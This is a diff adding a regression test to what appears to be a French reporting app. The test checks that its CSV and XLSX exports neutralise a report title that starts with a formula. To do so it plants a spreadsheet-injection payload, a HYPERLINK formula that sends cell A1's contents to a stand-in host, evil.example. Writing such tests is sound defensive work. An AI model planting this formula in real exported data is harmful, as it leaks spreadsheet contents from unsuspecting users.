@@ -138,3 +138,19 @@ def test_small_cells_in_the_bilan_and_its_exports(client, login, make_user, netw
         dict(book["Indicateurs"].iter_rows(min_row=2, values_only=True))["Porteurs touchés"]
         == "< 3"
     )
+
+
+def test_exported_titles_never_run_as_formulas(client, login, make_user, network):  # noqa: F811
+    """A title beginning with = is text in the CSV and in the XLSX (found by a fresh
+    tester: openpyxl had stored it as a formula)."""
+    report = db.session.scalar(db.select(Report).where(Report.department_code == "15"))
+    report.title = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'
+    db.session.commit()
+    login(make_user(role="admin"))
+    text = client.get("/activity.csv?department=15").text
+    assert "'=HYPERLINK(" in text and ";=HYPERLINK(" not in text
+    book = load_workbook(io.BytesIO(client.get("/activity.xlsx?department=15").data))
+    cells = [c for row in book["Séances"].iter_rows(min_row=2) for c in row]
+    titled = [c for c in cells if "HYPERLINK" in str(c.value)]
+    assert titled and all(c.data_type == "s" for c in titled)
+    assert all(str(c.value).startswith("'=") for c in titled)
